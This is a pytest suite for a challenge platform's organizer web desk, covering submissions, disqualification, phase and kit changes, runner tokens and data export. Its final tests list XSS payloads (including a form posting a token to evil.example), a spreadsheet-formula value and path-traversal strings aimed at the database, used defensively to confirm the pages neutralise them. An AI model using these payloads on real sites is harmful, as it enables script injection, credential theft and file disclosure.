"""An organizer runs a challenge from a browser, without scripts."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from browser_world import Browser, both
from gateway_world import API, World, make_kit
from support import CARD

from participant_kit.gateway.leases import RUNNER_LOST
from participant_kit.protocol.kit import MAX_KIT_BYTES

LADDER = CARD.replace(b"leaderboard_mechanism: rounded", b"leaderboard_mechanism: ladder")
PHASE = "/desk/challenges/small/phases/development"


@pytest.fixture
def organizer(world: World) -> Browser:
    return Browser(world).log_in("org", "organizer", "/desk")


def scored(world: World, auc: float, who: str = "ada") -> str:
    identifier: str = world.submit(who).json()["id"]
    claim = world.claim()
    assert claim and claim.submission == identifier and world.finish(claim, auc).status_code == 204
    return identifier


def board(world: World) -> list[tuple[str, float, int]]:
    rows = world.client.get(f"{API}/challenges/small/leaderboard").json()["rows"]
    return [(row["participant"], row["scores"]["roc_auc_score"], row["submissions"]) for row in rows]


def lose(world: World) -> str:
    """A submission whose runner is lost as often as it may be."""
    identifier: str = world.submit("ada").json()["id"]
    for _ in range(3):
        assert world.claim()
        world.query("UPDATE submissions SET lease_expires = 1 WHERE lease_expires > 1")
    world.claim()
    assert world.status(identifier)["failure"]["reason"] == RUNNER_LOST["reason"]
    return identifier


def test_the_desk_shows_states_and_the_time_in_each(world: World, organizer: Browser) -> None:
    identifier = scored(world, 0.8)
    waiting = world.submit("bob").json()["id"]
    overview = organizer.go("/desk")
    assert "A small challenge" in overview and "1 for the blind runner" in organizer.text
    organizer.go("/desk/submissions?challenge=small&state=scored")
    assert identifier in organizer.answer.text and waiting not in organizer.answer.text
    organizer.go("/desk/submissions?participant=bob")
    assert waiting in organizer.answer.text and identifier not in organizer.answer.text
    organizer.go(f"/desk/submissions/{identifier}")
    states = [state for state in ("queued", "running", "scored") if f">{state}</span>" in organizer.answer.text]
    assert states == ["queued", "running", "scored"]
    assert organizer.answer.text.count(" s</td>") == 2  # how long it waited, and ran
    assert "nobody on this server can read it" in organizer.text
    organizer.go("/desk/submissions/019abcde-0000-7000-8000-000000000000", 404)


@both
def test_what_a_lost_runner_had_is_run_again_from_the_notebook_that_was_kept(world: World, organizer: Browser) -> None:
    identifier = lose(world)
    organizer.go(f"/desk/submissions/{identifier}")
    organizer.send("/again")
    assert world.status(identifier)["state"] == "queued"
    claim = world.claim()
    assert claim and claim.sealed == b"sealed" and world.finish(claim, 0.8).status_code == 204
    status = world.status(identifier)
    assert (status["state"], status["counted"]) == ("scored", True)
    organizer.go(f"/desk/submissions/{identifier}")
    assert "Not possible. Its result has left the secure side" in organizer.text
    organizer.post(f"/desk/submissions/{identifier}/again", organizer.form("/logout").values, 409)


def test_what_a_runner_works_on_is_taken_from_it(world: World, organizer: Browser) -> None:
    identifier = world.submit("ada").json()["id"]
    first = world.claim()
    organizer.go(f"/desk/submissions/{identifier}")
    organizer.send("/again")
    assert first and world.finish(first).status_code == 409  # its lease has ended
    second = world.claim()
    assert second and second.lease.attempt == 2 and world.finish(second).status_code == 204


def test_quota_is_given_back_for_what_failed(world: World, organizer: Browser) -> None:
    identifier = world.submit("ada").json()["id"]
    claim = world.claim()
    assert claim
    world.finish(claim, failure={"stage": "notebook"})
    organizer.go(f"/desk/submissions/{identifier}")
    organizer.send("/give-back")
    quota = world.client.get(f"{API}/challenges/small/quota", headers=world.auth("ada")).json()
    assert (quota["used_total"], quota["revealed_bits"]) == (0, 1)  # what it revealed stays counted


@both
def test_who_is_disqualified_sees_the_reason_and_leaves_the_board(world: World, organizer: Browser) -> None:
    good, better = scored(world, 0.7), scored(world, 0.9)
    scored(world, 0.8, "bob")
    assert board(world) == [("ada", 0.9, 2), ("bob", 0.8, 1)]
    before = world.status(better)
    organizer.go(f"/desk/submissions/{better}")
    organizer.send("/disqualify", 422, reason="")
    assert organizer.faults == ["This is needed."]
    organizer.send("/disqualify", 422, reason="x" * 501)
    assert "501 characters" in organizer.faults[0] and organizer.form("/disqualify").values["reason"] == "x" * 501
    organizer.send("/disqualify", reason="It was trained on the labels.")
    assert board(world) == [("bob", 0.8, 1), ("ada", 0.7, 1)]
    after = world.status(better)
    assert after["disqualified"] == "It was trained on the labels." and after["version"] > before["version"]
    assert (after["state"], after["scores"], after["updated_at"]) == ("scored", before["scores"], before["updated_at"])
    ada = Browser(world).log_in("ada", path=f"/submissions/{better}")
    assert "It was trained on the labels." in ada.text
    organizer.go(f"/desk/submissions/{good}")
    organizer.send("/disqualify", reason="Also.")
    assert board(world) == [("bob", 0.8, 1)]
    assert world.query("SELECT participant, leads FROM records") == [("bob", True)]  # also on the boards of days
    for identifier in (good, better):
        organizer.go(f"/desk/submissions/{identifier}")
        organizer.send("/reinstate")
    assert board(world) == [("ada", 0.9, 2), ("bob", 0.8, 1)]
    leads = world.query("SELECT participant, leads FROM records ORDER BY entered_at")
    assert leads == [("ada", True), ("ada", True), ("bob", False)]


def test_what_a_ladder_repeats_of_a_disqualified_score_leaves_with_it(
    world: World, organizer: Browser, tmp_path: Path
) -> None:
    world.publish(make_kit(tmp_path / "ladder", LADDER))
    scored(world, 0.6)
    better, echo = scored(world, 0.9), scored(world, 0.9)
    organizer.go(f"/desk/submissions/{better}")
    assert "only a better score will count" in organizer.text
    organizer.send("/disqualify", reason="Copied.")
    assert board(world) == [("ada", 0.6, 1)]
    assert world.status(echo)["disqualified"] is None
    scored(world, 0.95)
    assert board(world) == [("ada", 0.95, 2)]


def test_a_phase_is_changed_after_its_effect_was_shown(world: World, organizer: Browser) -> None:
    for _ in range(2):
        world.submit("ada")
    organizer.go("/desk/challenges/small")
    organizer.send(PHASE, button="preview", total="2", per_day="2", ends="2030-05-01 12:30")
    assert "total: 100 → 2" in organizer.text and "ends: 2036-01-01 UTC → 2030-05-01 12:30 UTC" in organizer.text
    assert "1 participants will have used all" in organizer.text and "512 bits" in organizer.text
    assert world.submit("ada").status_code == 200  # nothing has changed yet
    organizer.send(PHASE, button="confirm", total="3")  # typed after the look: it is shown, too
    assert "total: 100 → 3" in organizer.text
    organizer.send(PHASE, button="preview", total="2")
    organizer.send(PHASE, button="confirm")
    refused = world.submit("ada")
    assert (refused.status_code, refused.json()["code"]) == (429, "quota_spent")
    card = world.client.get(f"{API}/challenges/small").json()["card"]
    assert (card["phases"][0]["total"], card["phases"][0]["ends"]) == (2, "2030-05-01T12:30:00+00:00")
    assert "2030-05-01 12:30" in Browser(world).go("/challenges/small")


def test_a_phase_that_is_ended_takes_nothing_and_its_board_can_be_hidden(world: World, organizer: Browser) -> None:
    scored(world, 0.8)
    world.submit("ada")
    organizer.go("/desk/challenges/small")
    organizer.send(PHASE, button="preview", ends="2026-01-02", leaderboard="hidden")
    assert "The open phase will be none" in organizer.text and "run to their end" in organizer.text
    organizer.send(PHASE, button="confirm")
    assert world.submit("ada").json()["code"] == "phase_closed"
    assert board(world) == []
    claim = world.claim()
    assert claim and world.finish(claim).status_code == 204


def test_what_a_phase_cannot_be_is_said_at_its_field(world: World, organizer: Browser) -> None:
    organizer.go("/desk/challenges/small")
    wrong = {"starts": "soon", "ends": "2026-13-01", "per_day": "-1", "total": "many", "leaderboard": "secret"}
    organizer.send(PHASE, 422, button="preview", **wrong)
    assert len(organizer.faults) == 5 and "such as 2026-11-30" in organizer.faults[0]
    kept = organizer.form(PHASE).values
    assert {name: kept[name] for name in ("starts", "total")} == {"starts": "soon", "total": "many"}
    organizer.send(PHASE, 422, button="preview", starts="2027-01-01", ends="2026-01-01", per_day="", total="",
                   leaderboard="live")  # fmt: skip
    assert organizer.faults == ["A phase ends after it starts."]
    organizer.post("/desk/challenges/small/phases/final", organizer.form(PHASE).values, 422)
    organizer.go("/desk/challenges/none", 404)


def test_phases_that_would_overlap_are_refused(empty: World, tmp_path: Path) -> None:
    two = CARD.replace(
        b"ends: 2036-01-01, per_day: 10, total: 100}",
        b"ends: 2036-01-01}\n  - {name: final, starts: 2036-01-01, ends: 2037-01-01}",
    )
    empty.publish(make_kit(tmp_path / "kit", two))
    organizer = Browser(empty).log_in("org", "organizer", "/desk")
    organizer.go("/desk/challenges/small")
    organizer.send(PHASE, 422, button="preview", ends="2036-02-01")
    assert "do not overlap" in organizer.faults[0] and organizer.form(PHASE).values["ends"] == "2036-02-01"


@both
def test_of_two_organizers_at_once_the_second_sees_what_the_first_has_changed(world: World, organizer: Browser) -> None:
    other = Browser(world).log_in("oz", "organizer", "/desk/challenges/small")
    organizer.go("/desk/challenges/small")
    for each, total in ((organizer, "50"), (other, "60")):
        each.send(PHASE, button="preview", total=total)
    organizer.send(PHASE, button="confirm")
    other.send(PHASE, 409, button="confirm")
    assert "Another organizer" in other.faults[0] and other.form(PHASE).values["total"] == "60"
    other.send(PHASE, button="preview")
    assert "total: 50 → 60" in other.text
    other.send(PHASE, button="confirm")
    assert world.client.get(f"{API}/challenges/small").json()["card"]["phases"][0]["total"] == 60


def test_of_two_organizers_who_disqualify_the_same_the_second_is_told_and_keeps_what_they_typed(
    world: World, organizer: Browser
) -> None:
    other = Browser(world).log_in("oz", "organizer", "/desk")
    identifier = scored(world, 0.9)
    for each in (organizer, other):
        each.go(f"/desk/submissions/{identifier}")
    organizer.send("/disqualify", reason="One.")
    other.send("/disqualify", 409, reason="Two.")
    assert "Another organizer has decided" in other.faults[0] and "Disqualified. One." in other.text
    assert other.form("/disqualify").values["reason"] == "Two."
    assert world.status(identifier)["disqualified"] == "One." and board(world) == []
    other.send("/disqualify")  # on the sight of what is there now
    assert world.status(identifier)["disqualified"] == "Two."


def test_of_two_organizers_who_let_in_and_pause_the_same_the_second_is_told(world: World, organizer: Browser) -> None:
    world.auth("ada")
    world.query("UPDATE accounts SET state = 'waiting' WHERE name = 'ada'")
    other = Browser(world).log_in("oz", "organizer", "/desk")
    for each in (organizer, other):
        each.go("/desk/people?state=waiting")
    organizer.send("/state", button="pause")
    assert "Nobody is waiting" in organizer.text  # the list that they were at
    other.send("/state", 409, button="approve")
    assert "it is paused now, and was waiting" in other.faults[0]
    assert world.query("SELECT state FROM accounts WHERE name = 'ada'") == [("paused",)]
    other.go("/desk/people")
    other.send("/state", button="resume")
    assert world.query("SELECT state FROM accounts WHERE name = 'ada'") == [("active",)]


def test_two_organizers_have_a_lost_run_run_again_once(world: World, organizer: Browser) -> None:
    other = Browser(world).log_in("oz", "organizer", "/desk")
    lost = lose(world)
    for each in (organizer, other):
        each.go(f"/desk/submissions/{lost}")
    organizer.send("/again")
    other.send("/again", 409)
    assert "waits for a runner already" in other.text


def test_of_two_organizers_who_publish_the_second_sees_what_theirs_would_do_now(
    world: World, organizer: Browser, tmp_path: Path
) -> None:
    other = Browser(world).log_in("oz", "organizer", "/desk")
    for each, title in ((organizer, b"One"), (other, b"Two")):
        upload(each, make_kit(tmp_path / title.decode(), CARD.replace(b"A small challenge", title)))
    organizer.send("/publish")
    other.send("/publish", 422)
    assert "Another organizer has published" in other.faults[0]
    assert world.client.get(f"{API}/challenges/small").json()["card"]["title"] == "One"
    other.send("/publish")  # the kit was kept
    assert world.client.get(f"{API}/challenges/small").json()["card"]["title"] == "Two"


def upload(organizer: Browser, kit: bytes, status: int = 200) -> None:
    organizer.go("/desk/challenges/small/kit")
    organizer.send("/kit", status, files={"kit": ("kit.zip", kit, "application/zip")})


def test_a_new_kit_is_published_after_its_effect_on_old_scores_was_shown(
    world: World, organizer: Browser, tmp_path: Path
) -> None:
    scored(world, 0.9)
    new = make_kit(tmp_path / "new", CARD.replace(b"A small challenge", b"A new challenge"))
    upload(organizer, new)
    assert "Parts of the card that differ: title" in organizer.text and "1 rows on the boards" in organizer.text
    assert world.client.get(f"{API}/challenges/small").json()["card"]["title"] == "A small challenge"
    organizer.send("/publish", boards="keep")
    assert world.client.get(f"{API}/challenges/small").json()["card"]["title"] == "A new challenge"
    assert board(world) == [("ada", 0.9, 1)]
    upload(organizer, new)
    assert "published already" in organizer.text
    organizer.send("/publish", boards="anew")
    assert board(world) == []
    scored(world, 0.7)
    assert board(world) == [("ada", 0.7, 1)]
    assert not list((world.data / "blobs" / "drafts").glob("*"))


def test_a_file_that_is_no_kit_is_refused_with_the_reason(world: World, organizer: Browser, tmp_path: Path) -> None:
    for data in (b"", b"not a zip", make_kit(tmp_path / "x", CARD.replace(b"slug: small", b"slug: other"))):
        upload(organizer, data, 422)
        assert organizer.faults[0]
    form = organizer.form("/kit").values
    answer = organizer.client.post(
        "/desk/challenges/small/kit",
        content=b"",
        headers={"Origin": organizer.address, "Content-Length": str(MAX_KIT_BYTES * 2)},
    )
    assert answer.status_code == 413
    organizer.post("/desk/challenges/small/publish", form | {"digest": "../../gateway.sqlite"}, 404)
    organizer.post("/desk/challenges/small/publish", form | {"digest": "0" * 64}, 404)


def test_a_challenge_that_is_not_here_yet_is_published_by_the_page(empty: World, tmp_path: Path) -> None:
    organizer = Browser(empty).log_in("org", "organizer", "/desk")
    organizer.go("/desk/new?slug=small")
    organizer.send("/kit", files={"kit": ("kit.zip", make_kit(tmp_path / "kit"), "application/zip")})
    assert "becomes public" in organizer.text
    organizer.send("/publish")
    assert organizer.path == "/desk/challenges/small"
    assert empty.client.get(f"{API}/challenges/small").status_code == 200


@pytest.mark.parametrize(
    ("dates", "said"),
    [
        (b"starts: 2035-01-01, ends: 2036-01-01", "not open yet"),
        (b"starts: 2020-01-01, ends: 2021-01-01", "ended"),
        (b"starts: 2026-01-01, ends: 2036-01-01", "withdrawn"),
    ],
)
def test_the_desk_tells_where_a_challenge_stands(empty: World, tmp_path: Path, dates: bytes, said: str) -> None:
    assert b"starts: 2026-01-01, ends: 2036-01-01" in CARD
    empty.publish(make_kit(tmp_path / "kit", CARD.replace(b"starts: 2026-01-01, ends: 2036-01-01", dates)))
    if said == "withdrawn":
        empty.query("UPDATE challenges SET withdrawn = 'No agreement.', withdrawn_at = 1790000000")
    organizer = Browser(empty).log_in("org", "organizer", "/desk")
    assert said in organizer.text
    organizer.go("/desk/challenges/small")
    assert said in organizer.text and ("No agreement." in organizer.text) == (said == "withdrawn")
    organizer.send(PHASE, button="preview", total="7")
    assert "total: 100 → 7" in organizer.text


def test_the_desk_makes_the_token_that_a_runner_starts_with(world: World, organizer: Browser) -> None:
    organizer.go("/desk/runners")
    text = organizer.send("/desk/runners", 201, name="north", role="blind")
    token = "pkit_" + text.split("pkit_")[1].split("<")[0]
    me = world.client.get(f"{API}/me", headers={"Authorization": f"Bearer {token}"}).json()
    assert me == {"name": "north", "role": "runner"}
    assert token.encode() not in world.stored() and token not in organizer.go("/desk/runners")
    assert "north" in organizer.go("/desk/audit?who=org&on=north")
    organizer.go("/desk/runners")
    organizer.send("/desk/runners", 422, name="north", role="rehearsal")  # it has the other role
    assert "role" in organizer.faults[0]


def test_an_announcement_is_shown_and_withdrawn(world: World, organizer: Browser) -> None:
    organizer.go("/desk/announcements")
    organizer.send("/announcements", 422, title="", text="Hello", challenge="small")
    assert organizer.faults == ["This is needed."] and organizer.form("/announcements").values["text"] == "Hello"
    organizer.send("/announcements", title="A new baseline", text="See **03**.", challenge="small")
    assert "<strong>03</strong>" in organizer.answer.text
    assert "A new baseline" in Browser(world).go("/challenges/small")
    organizer.send("/withdraw")
    assert "A new baseline" not in Browser(world).go("/challenges/small")


@both
def test_runners_are_seen_when_they_ask_for_work(world: World, organizer: Browser) -> None:
    body: dict[str, Any] = {"role": "blind", "runner": "north", "challenges": ["small"], "wait": 0}
    body |= {"cpus": 4, "memory": 8 << 30, "wall_time": 3600}
    headers = world.auth("runner", "runner") | {"User-Agent": "participant-kit/1.2.3"}
    assert world.client.post(f"{API}/claims", json=body, headers=headers).status_code == 204
    organizer.go("/desk/runners")
    assert "north" in organizer.text and "1.2.3" in organizer.text and "4 CPUs 8,192 MiB 1.0 h" in organizer.text
    assert "away" not in organizer.answer.text.split("moving")[1].split("noted when")[0].replace("look", "")
    world.query("UPDATE runners SET seen_at = seen_at - 1000")
    organizer.go("/desk/runners")
    assert ">away<" in organizer.answer.text


@pytest.mark.attack("formula")
@both
def test_everything_is_exported_but_secrets_and_notebooks(world: World, organizer: Browser) -> None:
    identifier = scored(world, 0.9)
    organizer.go(f"/desk/submissions/{identifier}")
    organizer.send("/disqualify", reason="=HYPERLINK(1)")
    organizer.go("/desk/export")
    organizer.send("/export")
    with zipfile.ZipFile(io.BytesIO(organizer.answer.content)) as archive:
        files = {name: archive.read(name).decode() for name in archive.namelist()}
    [submission] = json.loads(files["submissions.json"])
    assert (submission["id"], submission["disqualified"]) == (identifier, "=HYPERLINK(1)")
    [row] = csv.DictReader(io.StringIO(files["submissions.csv"]))
    assert row["disqualified"] == "'=HYPERLINK(1)"  # a spreadsheet runs no formula
    assert json.loads(files["receipts.json"])[0]["envelope"]["payload"]
    assert {name.rpartition(".")[0] for name in files} >= {"accounts", "leaderboard", "audit", "states"}
    whole = "".join(files.values())
    assert not any(secret in whole for secret in world.tokens.values())
    hashes = [row[0] for row in world.query("SELECT sha256 FROM tokens UNION SELECT sha256 FROM sessions")]
    assert not any(digest in whole for digest in hashes)


SCRIPTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "[a](javascript:alert(1))",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href=" javascript:alert(1)">a</a>',
    "{{ 919 * 907 }}${919*907}<%= 919*907 %>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<form action=https://evil.example><input name=token></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div hx-get=/desk/export hx-trigger=load>",
    "\u202e<b>",
    "&#x3C;script&#x3E;",
]


def batched(texts: list[str], number: int) -> list[list[str]]:
    """Several at once, each shorter than a title may be."""
    return [texts[start : start + number] for start in range(0, len(texts), number)]


RUNS = ("javascript:", "data:", "vbscript:")


class _Scripts(HTMLParser):
    """Whatever could run or load something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, pairs: list[tuple[str, str | None]]) -> None:
        values = {name: (value or "").strip().lower() for name, value in pairs}
        if tag in ("iframe", "style", "object", "embed", "base", "svg") or (tag == "img"):
            self.found.append(tag)
        if tag == "script" and not values.get("src", "").startswith("/static/"):
            self.found.append(tag)
        if tag == "meta" and "http-equiv" in values:
            self.found.append(tag)
        for name, value in values.items():
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            if name in ("action", "src", "href", "formaction") and ("evil" in value or value.startswith(RUNS)):
                self.found.append(f"{tag} {name}={value}")
            if name.startswith("hx-get") and value != "/desk/runners":
                self.found.append(f"{tag} {name}={value}")


def check(text: str) -> None:
    parser = _Scripts()
    parser.feed(text)
    assert parser.found == [] and "833533" not in text


@pytest.mark.attack("xss")
def test_no_text_that_anybody_types_becomes_a_script(world: World, organizer: Browser) -> None:
    identifier, other = scored(world, 0.9), scored(world, 0.8, "bob")
    bob = Browser(world).log_in("bob")
    for text in ("".join(part) for part in batched(SCRIPTS, 4)):
        organizer.go("/desk/announcements")
        check(organizer.send("/announcements", title=text, text=text, challenge="small"))
        organizer.go("/desk/announcements")
        check(organizer.send("/announcements", 422, title="", text=text, challenge=text))
        check(organizer.go("/desk/invitations") and organizer.send("/desk/invitations", 201, note=text))
        check(organizer.send("/desk/invitations", 422, uses=text[:4], days=text[:3], note=text, team=text))
        organizer.go("/desk/people/teams")
        check(organizer.send("/people/teams", 422, team=text))
        check(organizer.send("/people/join", 422, person=text, into=text))
        organizer.go("/desk/challenges/small")
        check(organizer.send(PHASE, 422, button="preview", starts=text, ends=text, total=text, leaderboard=text))
        organizer.go(f"/desk/submissions/{identifier}")
        check(organizer.send("/disqualify", 422, reason=text + "x" * 500))
        check(organizer.send("/disqualify", reason=text))
        check(organizer.send("/reinstate"))
        organizer.go(f"/desk/submissions/{other}")
        organizer.send("/disqualify", reason=text)
        check(bob.go(f"/submissions/{other}"))
        organizer.send("/reinstate")
    guest = Browser(world)
    for path in ("/challenges/small", "/desk/audit", "/desk/runners", "/desk", "/desk/invitations"):
        check(organizer.go(path))
    for text in SCRIPTS:
        for path in ("/desk/people", "/desk/submissions", "/login"):
            for name in ("find", "participant", "challenge", "next"):
                check(organizer.client.get(path, params={name: text[:60]}).text)
                check(guest.client.get(path, params={name: text[:60]}).text)
    check(guest.go("/login") and guest.send("/login", 422, token=SCRIPTS[0]))


@pytest.mark.attack("path")
@both
def test_no_path_leads_out_of_what_pages_have(world: World, organizer: Browser) -> None:
    tricks = ("..%2f..%2fgateway.sqlite", "%2e%2e/", "....//", "%00", "a%0d%0ab", "..\\..", "%c0%ae%c0%ae/", "x" * 3000)
    for trick in tricks:
        for before in ("/static/", "/submissions/", "/desk/submissions/", "/desk/challenges/", "/invitation/"):
            answer = organizer.client.get(before + trick, follow_redirects=False)
            assert answer.status_code in (404, 307, 308, 429), (before, trick, answer.status_code)
            assert "evil" not in answer.headers.get("location", "")
